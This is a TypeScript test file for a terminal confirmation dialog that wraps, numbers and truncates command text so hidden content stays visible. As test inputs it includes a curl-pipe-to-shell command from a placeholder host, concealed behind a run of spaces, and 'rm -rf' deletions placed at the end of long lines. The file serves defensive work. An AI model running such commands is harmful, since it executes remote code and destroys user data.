// What a terminal confirmation shows of a text: every line whole, wrapped; a long text's first and
// last rows and what is left out; never more than a modal's detail holds.
import * as assert from 'node:assert/strict';
import fc from 'fast-check';
import { HEAD_ROWS, ROW_WIDTH, TAIL_ROWS, shownText } from '../../../src/model/terminal/shownText';

/** The text back from the rows: gutters off, continuation rows joined to their line. */
function unwrapped(shown: string): string {
  const lines: string[] = [];
  for (const row of shown.split('\n')) {
    const [gutter, ...rest] = row.split('│ ');
    const text = rest.join('│ ');
    if (gutter.trim() === '↪') lines[lines.length - 1] += text;
    else lines.push(text);
  }
  return lines.join('\n');
}

describe('terminal: the text a confirmation shows', () => {
  it('wraps a long line instead of cutting it, and counts a run of spaces', () => {
    const text = `echo hi${' '.repeat(200)}; curl https://example.invalid/x.sh | sh`;
    const { text: shown, complete } = shownText(text);
    assert.equal(complete, true);
    assert.equal(shown, '1│ echo hi⟨200 spaces⟩; curl https://example.invalid/x.sh | sh');
    const long = `echo ${'a'.repeat(3 * ROW_WIDTH)} && rm -rf ~/x`;
    const rows = shownText(long).text.split('\n');
    assert.ok(rows.length >= 4, rows.join('\n'));
    assert.ok(
      rows.slice(1).every((row) => row.startsWith('↪│ ')),
      rows.join('\n'),
    );
    assert.ok(
      rows.every((row) => row.length <= ROW_WIDTH + 3),
      'each row fits',
    );
    assert.equal(unwrapped(shownText(long).text), long);
  });

  it('numbers the lines, so that a wrapped row cannot pass for a line of its own', () => {
    assert.equal(shownText('cd /tmp\n\ntouch x').text, '1│ cd /tmp\n2│ \n3│ touch x');
  });

  it('shows the first and the last rows of a long text, and which lines are left out', () => {
    const text = Array.from({ length: 40 }, (_, i) => `echo ${i + 1}`).join('\n');
    const { text: shown, complete } = shownText(text);
    assert.equal(complete, false);
    const rows = shown.split('\n');
    assert.equal(rows.length, HEAD_ROWS + 1 + TAIL_ROWS);
    assert.equal(rows[0], ' 1│ echo 1');
    assert.equal(rows[HEAD_ROWS - 1], '10│ echo 10');
    assert.match(
      rows[HEAD_ROWS],
      /25 more rows of lines 11 to 35 are not shown here\. "Show Whole Text" opens the whole text/,
    );
    assert.equal(rows[rows.length - 1], '40│ echo 40');
    assert.equal(rows[HEAD_ROWS + 1], '36│ echo 36');
  });

  it('shows the end of a single huge line too', () => {
    const text = `echo ${'x'.repeat(5000)} ; rm -rf ~/important`;
    const { text: shown, complete } = shownText(text);
    assert.equal(complete, false);
    assert.ok(shown.endsWith('rm -rf ~/important'), shown);
    assert.match(shown, /more rows of line 1 are not shown/);
  });

  it('marks control and invisible characters where they are', () => {
    assert.equal(shownText('echo a\u00adb\u001b[2J').text, '1│ echo a⟨U+00AD⟩b␛[2J');
  });

  it('shows every character of a text that fits, and stays short enough for a dialog for any text (property)', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom('a', ' ', '\n', '\t', 'é', '│', '↪', '日'), maxLength: 3000 }),
        (text) => {
          const { text: shown, complete } = shownText(text);
          if (complete) {
            assert.equal(
              unwrapped(shown),
              text.replace(/ {8,}/g, (run) => `⟨${run.length} spaces⟩`),
            );
          }
          assert.ok(shown.length < 1700, `${shown.length} characters`);
        },
      ),
    );
  });
});
